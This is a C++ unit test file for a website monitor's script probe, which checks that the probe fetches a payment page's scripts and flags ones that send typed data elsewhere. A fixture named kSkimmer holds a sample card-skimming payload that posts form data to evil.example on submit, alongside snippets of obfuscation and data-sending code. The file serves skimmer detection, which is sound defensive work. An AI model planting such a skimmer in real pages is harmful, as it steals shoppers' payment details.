// SPDX-License-Identifier: Apache-2.0
#include "probes/catalog.h"
#include "probes/url.h"
#include "tests/replies.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>
#include <map>

namespace bw {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::SizeIs;

constexpr std::string_view kPage =
    "<title>Pay</title><h1>Pay</h1><script src=/app.js></script>"
    "<script src='https://js.paywell.example/v3/fields.js?k=1'></script>"
    "<script src='https://tags.example/t.js'></script><script src=/app.js></script>"
    "<script>var inline=1</script><form action=/pay><input name=card "
    "autocomplete=cc-number></form>";
constexpr std::string_view kSkimmer =
    "addEventListener('submit',function(){navigator.sendBeacon('https://evil.example/c',new "
    "FormData(document.forms[0]))})";

using Server = std::function<Reply(const HttpAsk&)>;
struct Walk {
  Finding finding;
  std::vector<std::string> asked;
};
Spec pay_page() {
  Spec spec;
  spec.kind = "scripts";
  spec.url = "https://www.shop.example/pay";
  return spec;
}
Walk walk(const Spec& spec, const Server& server) {
  Walk walked;
  Look look;
  Step step = kinds::scripts.begin(spec, look);
  for (int i = 0; i < 40 && std::holds_alternative<Ask>(step); ++i) {
    const auto ask = std::get<HttpAsk>(std::get<Ask>(step).what);
    walked.asked.push_back(ask.url);
    step = kinds::scripts.read(spec, look, server(ask), Time{});
  }
  if (auto* const finding = std::get_if<Finding>(&step)) walked.finding = std::move(*finding);
  return walked;
}
Server shop(std::map<std::string, Reply> scripts) {
  return [scripts = std::move(scripts)](const HttpAsk& ask) {
    if (ask.url == "https://www.shop.example/pay") return answer(200, std::string(kPage));
    const auto at = scripts.find(ask.url);
    return at == scripts.end() ? answer(200, "go()") : at->second;
  };
}

TEST(Scripts, APageDoesNotLeadTheMonitorInside) {
  const auto walked = walk(pay_page(), [](const HttpAsk& ask) {
    EXPECT_EQ(ask.lead.is_foreign, ask.url != "https://www.shop.example/pay") << ask.url;
    auto reply = answer(200, std::string(kPage));
    reply.address = parse_address("198.51.100.10");
    if (!ask.lead.is_foreign) return reply;
    EXPECT_EQ(ask.lead.from, reply.address) << ask.url;
    Reply refused;
    refused.failure = Outcome::leads_inside;
    return refused;
  });
  EXPECT_EQ(walked.finding.outcome, Outcome::ok);
  EXPECT_THAT(std::string(walked.finding.facts.get(Fact::script_failures)),
              HasSubstr("https://www.shop.example/app.js=leads_inside"));
}

TEST(Scripts, FetchesEachScriptOnceAndSaysWhatItIs) {
  const auto seen = walk(pay_page(), shop({}));
  EXPECT_THAT(seen.asked,
              ElementsAre("https://www.shop.example/pay",
                          "https://www.shop.example/app.js",
                          "https://js.paywell.example/v3/fields.js?k=1",
                          "https://tags.example/t.js"));
  EXPECT_EQ(seen.finding.outcome, Outcome::ok);
  EXPECT_THAT(members(seen.finding.facts.get(Fact::script_hashes)), SizeIs(3));
  EXPECT_THAT(std::string(seen.finding.facts.get(Fact::script_hashes)),
              HasSubstr("https://js.paywell.example/v3/fields.js="));
  EXPECT_EQ(seen.finding.facts.get(Fact::fields), "card-number");
  EXPECT_EQ(seen.finding.facts.get(Fact::script_marks), "");
}

TEST(Scripts, SaysWhoseScriptSendsWhatVisitorsTypeToWhom) {
  const auto seen = walk(
      pay_page(),
      shop({{"https://js.paywell.example/v3/fields.js?k=1", answer(200, std::string(kSkimmer))}}));
  const auto& facts = seen.finding.facts;
  EXPECT_EQ(seen.finding.outcome, Outcome::ok);
  EXPECT_EQ(facts.get(Fact::script_marks), "sends:https://js.paywell.example>https://evil.example");
  EXPECT_EQ(facts.get(Fact::script_sends), "https://js.paywell.example>https://evil.example");
  EXPECT_EQ(facts.get(Fact::script_suspect), "https://js.paywell.example/v3/fields.js");
  EXPECT_EQ(facts.get(Fact::script_targets), "https://evil.example");
  EXPECT_THAT(std::string(facts.get(Fact::script_traits)), HasSubstr("sends_elsewhere"));
}

TEST(Scripts, DoesNotAddUpTheTraitsOfSeveralVendors) {
  const auto seen = walk(
      pay_page(),
      shop({{"https://www.shop.example/app.js", answer(200, "send(new FormData(f),cvv.value)")},
            {"https://js.paywell.example/v3/fields.js?k=1",
             answer(200, "var _0x1f=atob(eval('1'))")},
            {"https://tags.example/t.js",
             answer(200, "navigator.sendBeacon('https://stats.example/p',1)")}}));
  EXPECT_EQ(seen.finding.facts.get(Fact::script_traits), "");
  EXPECT_EQ(seen.finding.facts.get(Fact::script_marks), "");
  EXPECT_EQ(seen.finding.facts.get(Fact::script_sends),
            "https://tags.example>https://stats.example");
}

TEST(Scripts, TakesAScriptThatDoesNotComeForAFact) {
  const auto seen =
      walk(pay_page(),
           shop({{"https://www.shop.example/app.js", answer(503, std::string(kSkimmer))},
                 {"https://tags.example/t.js", no_answer()}}));
  EXPECT_EQ(seen.finding.outcome, Outcome::ok);
  EXPECT_EQ(seen.finding.facts.get(Fact::script_failures),
            "https://tags.example/t.js=connect_refused https://www.shop.example/app.js=503");
  EXPECT_EQ(seen.finding.facts.get(Fact::script_marks), "");
  EXPECT_THAT(members(seen.finding.facts.get(Fact::script_hashes)), SizeIs(1));
}

TEST(Scripts, LearnsNothingFromAPageThatCannotBeRead) {
  for (const auto& reply : {answer(503, "<h1>Busy</h1>"), no_answer(), answer(200, "{\"a\":1}")}) {
    const auto seen = walk(pay_page(), [&](const HttpAsk&) { return reply; });
    EXPECT_EQ(seen.finding.outcome, Outcome::monitor_error) << seen.finding.note;
    EXPECT_THAT(seen.asked, SizeIs(1));
    EXPECT_THAT(seen.finding.note, HasSubstr("scripts could not be looked for"));
  }
}

TEST(Scripts, EndsWhateverThePageAndItsHostsDo) {
  std::string page = "<h1>Pay</h1>";
  for (int i = 0; i < 100; ++i)
    page += "<script src='/s" + std::to_string(i) + ".js'></script>";
  const auto server = [&](const HttpAsk& ask) {
    if (ask.url == "https://www.shop.example/pay") return answer(200, page);
    return answer(302, "", {{.name = "Location", .value = "/again?" + ask.url.substr(24)}});
  };
  const auto seen = walk(pay_page(), server);
  EXPECT_LE(seen.asked.size(), 30U);
  EXPECT_EQ(seen.finding.outcome, Outcome::ok);
  EXPECT_THAT(members(seen.finding.facts.get(Fact::script_failures)), SizeIs(12));
}

TEST(Scripts, LeavesAddressesThatAreTooLongOnceResolved) {
  const std::string longest(kUrlBytesMax - 10, 'a');
  const auto seen = walk(pay_page(), [&](const HttpAsk& ask) {
    if (ask.url.ends_with("/pay")) {
      return answer(200,
                    "<h1>Pay</h1><script src='" + longest +
                        "'></script><script src=/b.js>"
                        "</script>");
    }
    return answer(302, "", {{.name = "Location", .value = longest}});
  });
  EXPECT_THAT(seen.asked, SizeIs(2));
  EXPECT_EQ(seen.finding.facts.get(Fact::script_failures), "https://www.shop.example/b.js=302");
}

TEST(Scripts, FollowsAScriptThatMoved) {
  const auto seen = walk(
      pay_page(),
      shop({{"https://tags.example/t.js",
             answer(302, "", {{.name = "Location", .value = "https://cdn.tags.example/t2.js"}})},
            {"https://cdn.tags.example/t2.js", answer(200, std::string(kSkimmer))}}));
  EXPECT_EQ(seen.finding.facts.get(Fact::script_marks),
            "sends:https://tags.example>https://evil.example");
}

TEST(Scripts, StopsWhenTimeIsUp) {
  const auto seen = walk(pay_page(), [](const HttpAsk& ask) {
    auto reply = answer(200, ask.url.ends_with("/pay") ? std::string(kPage) : "go()");
    reply.phases.wait = std::chrono::seconds{16};
    return reply;
  });
  EXPECT_THAT(seen.asked, SizeIs(2));
  EXPECT_EQ(seen.finding.facts.get(Fact::script_failures),
            "https://js.paywell.example/v3/fields.js=no_time_left "
            "https://tags.example/t.js=no_time_left");
}

TEST(Scripts, SendsHeadersToThePagesSiteOnly) {
  auto spec = pay_page();
  spec.headers = {{.name = "X-Canary", .value = "1"}};
  const auto server = shop({});
  (void)walk(spec, [&](const HttpAsk& ask) {
    const bool is_own = ask.url.starts_with("https://www.shop.example/");
    EXPECT_EQ(find_header(ask.headers, "x-canary").empty(), !is_own) << ask.url;
    return server(ask);
  });
}

}  // namespace
}  // namespace bw
